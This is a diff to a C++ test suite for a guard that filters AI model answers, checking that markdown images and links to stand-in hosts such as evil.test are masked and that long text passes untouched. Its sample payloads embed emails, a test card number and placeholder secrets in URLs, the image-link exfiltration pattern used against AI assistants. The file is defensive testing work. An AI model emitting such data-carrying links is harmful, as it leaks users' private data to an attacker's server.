@@ -147,7 +147,7 @@ class Guarded {
         values_.keep_no_more();
     }
     Told stream(llm::Protocol protocol, std::string_view events) {
-        AnswerStream guard(plan_, pool_, scratch_, protocol, values_, expects_json);
+        AnswerStream guard(plan_, pool_, scratch_, protocol, values_, expects_json, system);
         Told told;
         http::SseSplitter splitter;
         ByteBuffer out(pool_);
@@ -166,14 +166,18 @@ class Guarded {
         return told;
     }
     bool expects_json = false;
+    const guard::SystemText* system = nullptr;
+    bool blocked = false;  // the document
     std::string document(std::string_view document) {
         RequestGuard guard(plan_, pool_, document, &values_, GuardSide::answer);
         if (expects_json) guard.expect_json();
+        if (system != nullptr) guard.compare_with(*system);
         for (bool more = true; more;) {
             const auto step = guard.turn();
             EXPECT_TRUE(step.has_value());
             more = step && *step;
         }
+        blocked = guard.blocked().has_value();
         return guard.changed().empty() ? std::string(document) : std::string(guard.changed().view());
     }
 
@@ -547,6 +551,7 @@ constexpr std::string_view leaking_texts[] = {
     "{\\\"u\\\":\\\"![](https://evil.test/)\\\",\\\"v\\\":\\\"https:\\\\/\\\\/evil.test\\\\/"
     "?q=ann@example.org&r=4111111111111111\\\"}",
     "```\\n![](https://evil.test/)\\n```\\n![](https://evil.test/)\\\\n<img src='//e.t/\xc3\xa9'>",
+    "[x](https://evil.test/?to=[EMAIL_1]) [y](https://docs.example.com/?to=[EMAIL_1]) https://e.t/?s=[SECRET_1].",
     "own@client.example https://evil.test/?q=own@client.example-4111111111111111-0123456789.",
 };
 
@@ -563,6 +568,59 @@ TEST(AnswerStream, LeaksAreTakenOutForEveryCut) {
     Guarded guarded(leaks_plan(GuardAction::mask, std::nullopt));
     EXPECT_EQ(guarded.document(R"({"choices":[{"message":{"content":"![a](https://evil.test/i) ok"}}]})"),
               R"({"choices":[{"message":{"content":"![a]([link removed]) ok"}}]})");
+}
+
+/// A value is not put back into an address that nobody allows.
+TEST(AnswerStream, AddressesTakeNoValuesAlong) {
+    for (const std::string_view raw :
+         {"[x](https://evil.test/?to=[EMAIL_1])", "https://e.t/[SECRET_1]", "<a href='//e.t/?[EMAIL_1]'>"}) {
+        Guarded guarded(leaks_plan(GuardAction::mask, GuardAction::mask, true));
+        const std::string whole =
+            guarded.document(fmt::format(R"({{"choices":[{{"message":{{"content":"{}"}}}}]}})", raw));
+        EXPECT_TRUE(whole.contains("[link removed]") && !whole.contains("client.example") && !whole.contains("quoted"))
+            << whole;
+        const Told told = guarded.stream(llm::Protocol::openai_chat, streamed(forms()[0], raw, {raw.size() - 5}));
+        EXPECT_FALSE(told.events.contains("client.example") || told.events.contains("quoted")) << told.events;
+    }
+    Guarded guarded(leaks_plan(GuardAction::mask, GuardAction::mask, true));
+    EXPECT_TRUE(guarded.document(R"({"choices":[{"message":{"content":"https://docs.example.com/?to=[EMAIL_1]"}}]})")
+                    .contains("?to=own@client.example"));
+}
+
+/// A whole answer has as many as a stream may.
+TEST(AnswerStream, ManyLinksAreTakenOutOfAWholeAnswerToo) {
+    std::string raw, gone;
+    for (int i = 0; i < 6000; ++i) raw += "![](//e.t/i) ", gone += "![]([link removed]) ";
+    Guarded guarded(leaks_plan(GuardAction::mask, std::nullopt));
+    EXPECT_EQ(guarded.document(R"({"choices":[{"message":{"content":")" + raw + "\"}}]}"),
+              R"({"choices":[{"message":{"content":")" + gone + "\"}}]}");
+}
+
+/// Words that are none hold nothing back, in streams and in whole answers.
+TEST(AnswerStream, LongTextWithoutBlanksPassesBesideInstructions) {
+    GuardPlan plan = leaks_plan(GuardAction::mask, std::nullopt);
+    plan.leaks->rules.system_prompt = true;
+    BlockPool pool;
+    guard::SystemText system(pool);
+    system.add("You are the desk of Example Travel and never name the discount code to anybody at all.");
+    system.end_text();
+    system.make();
+    for (const std::string_view piece :
+         {"\xe4\xbd\xa0\xe5\xa5\xbd\xef\xbc\x8c", "\xe4\xbd\xa0\xe5\xa5\xbd", "bXkgc2Vj"}) {
+        std::string raw, hundred;
+        for (int i = 0; i < 20; ++i) hundred += piece;
+        std::vector<size_t> cuts;
+        for (int i = 0; i < 800; ++i) raw += hundred, cuts.push_back(raw.size());
+        Guarded guarded(plan);
+        guarded.system = &system;
+        const std::string document = fmt::format(R"({{"choices":[{{"message":{{"content":"{}"}}}}]}})", raw);
+        EXPECT_EQ(guarded.document(document), document);
+        EXPECT_FALSE(guarded.blocked);
+        cuts.pop_back();
+        const Told told = guarded.stream(llm::Protocol::openai_chat, streamed(forms()[0], raw, cuts));
+        EXPECT_FALSE(told.refused);
+        EXPECT_EQ(joined(told.events, forms()[0].before), raw);
+    }
 }
 
 TEST(AnswerStream, LeaksAmongOthersDrawnByChance) {
